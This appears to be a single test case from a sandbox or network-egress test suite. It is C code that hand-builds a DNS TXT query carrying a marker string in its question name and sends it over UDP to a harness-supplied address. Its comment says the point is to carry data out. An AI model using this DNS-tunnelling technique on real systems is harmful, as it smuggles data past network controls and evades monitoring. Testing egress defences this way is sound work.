#include "attack.h"
// A question whose name carries data out.
ATTACK(.judge = "hit:udp4") {
  unsigned char q[128] = {0x12, 0x34, 1, 0, 0, 1}, n = strlen(arg("marker"));
  q[12] = n;
  memcpy(q + 13, arg("marker"), n);
  q[15 + n] = 16, q[17 + n] = 1;
  int fd = socket(AF_INET, SOCK_DGRAM | SOCK_CLOEXEC, IPPROTO_UDP);
  struct sockaddr_in a = in4(num("udp4"));
  if (connect(fd, (void *)&a, sizeof a) || send(fd, q, 18 + n, MSG_NOSIGNAL) < 0) note("send");
}
